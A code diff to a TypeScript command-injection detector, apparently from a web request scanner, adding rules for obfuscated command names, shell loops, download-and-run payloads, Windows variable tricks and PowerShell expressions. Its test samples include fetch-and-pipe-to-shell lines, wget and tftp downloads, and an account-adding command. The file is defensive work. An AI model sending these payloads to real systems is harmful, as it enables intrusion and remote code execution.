@@ -1,6 +1,6 @@
 import type { Detector } from './detector.ts'
 import { cmdlet } from './shell/commands.ts'
-import { findCommand, findLeadingCommand, isCommand } from './shell/judge.ts'
+import { findCommand, findHiddenCommand, findLeadingCommand, isCommand } from './shell/judge.ts'
 
 const everywhere = ['query', 'body', 'path', 'referer', 'userAgent', 'user'] as const
 
@@ -105,7 +105,7 @@ export const commandInjection: Detector = {
       signs: ['cmd', 'exec', 'command', 'run', 'shell', 'system', 'execute', 'ping', 'daemon', 'process'],
       structure: 'a parameter called cmd, exec, command, shell or the like, whose value is a command',
       find: (text, name) =>
-        /^(?:cmd|exec|command|execute|shell|system|run|c|_cmd|syscmd|process|daemon)$/i.test(name) &&
+        /(?:cmd|command|exec(?:ute)?|shell)$|^(?:system|run|c|process|daemon|cmd\w{0,3})$/i.test(name) &&
         isCommand(text)
           ? { start: 0, end: text.length }
           : undefined,
@@ -188,7 +188,7 @@ export const commandInjection: Detector = {
       title: 'blanks and words a shell puts together',
       fields: ['query', 'body', 'path', 'referer', 'userAgent'],
       view: 'decoded',
-      signs: ['ifs', '$@', '${', "$'", '/?', '?/', '*/', '{', "''", '""', '\\', '^', '$9'],
+      signs: ['ifs', '$@', '${', "$'", '/?', '?/', '*/', '{', "''", '""', '\\', '^', '$9', '$(('],
       pattern:
         /\$\{?IFS\b|\/(?:[a-z?*]{0,6}\?[a-z?*]{0,6}\/){1,4}[\w?*]{1,20}|\{(?:cat|ls|wget|curl|nc|echo|ping|id|sleep|bash|sh|uname|tac|nl|head|tail|base64),[^{}]{1,200}\}|\$\{(?:PATH|HOME|PWD|SHELL|HOSTNAME|OLDPWD|IFS|LS_COLORS|BASH\w{0,12})(?::|%|#|\})|\$'\\x[0-9a-f]{2}|\b(?:c\\?a\\t|c\\at|ca\\t|w['"]{2}ho|who['"]{2}ami|c['"]{2}at|ca['"]{2}t|l['"]{2}s|w\^h\^o|ne\^t|p\^ing|n\^e\^t)\b|\$\(\(|\b[a-z]{1,6}\$[@*][a-z]{1,8}\b|\$\{[@!#]\w{0,20}\}/i,
       confidence: 0.55,
@@ -251,6 +251,98 @@ export const commandInjection: Detector = {
       confidence: 0.65,
       matches: ['a=net+user+x+y+/add', 'a=certutil+-urlcache+-f+http://x/y', 'a=type+c:\\boot.ini'],
       ignores: ['q=net+user+group', 'q=type+a+blood', 'q=reg+add+car'],
+    },
+    {
+      id: 'cmdi-hidden',
+      title: 'a command whose name is taken apart',
+      fields: everywhere,
+      view: 'decoded',
+      signs: ["'", '"', '\\', '^', '$', '`'],
+      structure:
+        'a known command behind a separator or at the start, which only a shell’s reading of the text shows',
+      find: findHiddenCommand,
+      confidence: 0.7,
+      why: 'Quotes, carets, backslashes and empty variables inside a command’s name serve only to hide it from filters.',
+      matches: ["a=;w'h'oami", 'a=;ec\\ho+QWERTY', 'a=;ho${u}stna${u}me', 'a=w^h^o^a^m^i'],
+      ignores: ["q=rock'n'roll", "q=l'echo+des+montagnes", 'q="cat"+food', 'q=c:\\windows'],
+    },
+    {
+      id: 'cmdi-control-structure',
+      title: 'a loop or a condition of a shell',
+      fields: ['query', 'body', 'path'],
+      view: 'decoded',
+      signs: ['do ', 'then', 'esac', '. /', '. ~'],
+      pattern:
+        /\b(?:for|while|until)\s[^;\n]{1,30}[;\n]\s{0,4}do\s|\bif\s{1,4}(?:\[{1,2}|test)\s[^;\n]{1,30}[;\n]\s{0,4}then\b|\)\s{0,4}[^;]{1,30};;\s{0,4}esac|[;|&]\s{0,4}\.\s{1,4}[~/]\w/,
+      confidence: 0.65,
+      matches: [
+        'a=;for+i+in+$(ls);do+id;done',
+        'a=;if+[+1+-eq+1+];then+sleep+5;fi',
+        'a=x;case+x+in+x)+id;;+esac',
+        'a=;.+/tmp/x',
+      ],
+      ignores: ['q=what+to+do', 'q=if+then+else', 'q=for+a+while', 'q=etc.+/+more'],
+    },
+    {
+      id: 'cmdi-download',
+      title: 'a download that is run or saved',
+      fields: everywhere,
+      view: 'shell',
+      signs: ['curl', 'wget', 'lwp-download', 'fetch ', 'tftp'],
+      pattern:
+        /\b(?:curl|wget|lwp-download)\s{1,4}(?:-{1,2}[\w-]{1,20}[\s=]{1,3}){0,4}(?:[\w./-]{1,30}\s{1,3})?["']?(?:https?|ftp):\/\/[^\s|;&]+\s{0,4}(?:[|;&>]|-{1,2}[oO]|\)|`)|\btftp\s{1,3}-[gr]\s|\bcurl\s{1,3}-[A-Za-z]{1,6}\s{1,3}["']?[\w.-]+[:/]/,
+      confidence: 0.65,
+      matches: [
+        'a=x+curl+http://203.0.113.9/i.sh|sh',
+        'a=expr+wget+http://203.0.113.9/a+-O+/tmp/a',
+        'a=tftp+-g+-r+a+203.0.113.9',
+      ],
+      ignores: ['q=curl+http://example.org', 'q=wget+download+windows', 'q=fetch+quest'],
+    },
+    {
+      id: 'cmdi-substring',
+      title: 'letters cut out of a variable of Windows',
+      fields: everywhere,
+      view: 'decoded',
+      signs: [':~'],
+      pattern: /%\w{3,25}:~-?\d{1,3}(?:,-?\d{1,3})?%/,
+      confidence: 0.8,
+      matches: ['a=%25COMSPEC:~-7,1%25md', 'a=%25ProgramFiles:~10,1%25ing', 'a=x%25windir:~0,1%25'],
+      ignores: ['q=10%25:~5', 'q=time:~10', 'q=%25a%25'],
+    },
+    {
+      id: 'cmdi-powershell-expression',
+      title: 'an expression of PowerShell',
+      fields: everywhere,
+      view: 'decoded',
+      signs: [
+        'foreach',
+        '[char',
+        '[system',
+        '[convert',
+        '[net.',
+        '[io.',
+        '[text',
+        '[reflection',
+        "&('",
+        '&("',
+        "& ('",
+        '-join',
+        '$_',
+        '.invoke',
+        '[ref]',
+        '-f ',
+      ],
+      pattern:
+        /&\s?\(\s?['"]\w{1,12}['"]\s?\+|\.ForEach\s?[({]|\[(?:System\.)?(?:Convert|Text\.Encoding|Net\.\w+|IO\.\w+|Diagnostics\.\w+|Reflection\.Assembly|Char|ref|Environment)\](?:::|\s?\d|\.)|\|\s?%\s?\{|-join\s?[('[]|\(\s?['"]\{\d\}[^'"]{0,30}['"]\s?-f\s/i,
+      confidence: 0.6,
+      matches: [
+        "a=%26('i'%2B'ex')",
+        'a=@(1).ForEach{whoami}',
+        'a=[System.Text.Encoding]::Unicode',
+        'a=[char]105%2B[char]101',
+      ],
+      ignores: ['q=for+each+person', 'type[char]=1', 'q=join+us', 'q=a+-f+b'],
     },
   ],
 }
